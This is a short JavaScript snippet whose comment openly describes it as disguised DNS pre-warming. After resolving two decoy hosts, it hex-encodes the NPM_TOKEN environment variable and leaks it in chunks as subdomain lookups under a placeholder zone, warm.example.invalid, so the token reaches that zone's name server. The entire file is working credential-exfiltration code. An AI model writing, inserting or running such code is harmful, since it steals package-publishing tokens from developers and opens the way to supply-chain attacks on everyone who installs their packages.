// Looks like DNS pre-warming; builds the npm token into the names it
// resolves, so each lookup carries a piece of it to the zone's name server.
const dns = require('dns');

const hosts = ['registry.npmjs.example.invalid', 'cdn.example.invalid'];
for (const h of hosts) dns.lookup(h, () => {});

const token = process.env.NPM_TOKEN || '';
const hex = Buffer.from(token).toString('hex');
for (let i = 0; i < hex.length; i += 48) {
  const label = hex.slice(i, i + 48);
  dns.lookup(`${label}.${i}.warm.example.invalid`, () => {});
}
